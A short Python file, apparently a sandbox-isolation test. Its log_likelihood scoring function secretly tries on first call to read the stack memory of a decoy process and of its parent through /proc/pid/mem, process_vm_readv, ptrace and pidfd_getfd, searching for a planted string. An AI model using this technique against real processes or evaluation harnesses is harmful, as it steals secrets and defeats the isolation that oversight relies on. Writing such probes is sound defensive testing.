"""Reads the memory of other processes, by /proc, by process_vm_readv and by ptrace."""

import ctypes
import os

from given import attempt, did, first, right
from places import DECOY, NEEDLE

LIBC = ctypes.CDLL(None, use_errno=True)


def stack(pid):
    with open(f"/proc/{pid}/maps") as maps:
        (line,) = (line for line in maps if "[stack]" in line)
    return [int(end, 16) for end in line.split()[0].split("-")]


def found(data):
    return [word for word in data.split(b"\0") if NEEDLE[::-1].encode() in word]


def by_file(pid):
    low, high = stack(pid)
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(low)
        return found(memory.read(high - low))


def by_call(pid):
    low, high = stack(pid)
    size = high - low
    into = ctypes.create_string_buffer(size)
    ours, theirs = (ctypes.c_size_t * 2)(ctypes.addressof(into), size), (ctypes.c_size_t * 2)(low, size)
    LIBC.process_vm_readv(pid, ours, 1, theirs, 1, 0)
    return found(into.raw)


def by_trace(pid):
    if LIBC.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE, which does not stop it
        did("traced")


def by_descriptor(pid):
    return os.read(LIBC.syscall(438, os.pidfd_open(pid), 0, 0), 99)  # pidfd_getfd


def log_likelihood(model, text):
    if first():
        for pid in (DECOY, os.getppid()):
            attempt(lambda: by_file(pid), lambda: by_call(pid), lambda: by_trace(pid))  # noqa: B023 (called at once)
        attempt(lambda: by_descriptor(DECOY))
    return right(model, text)
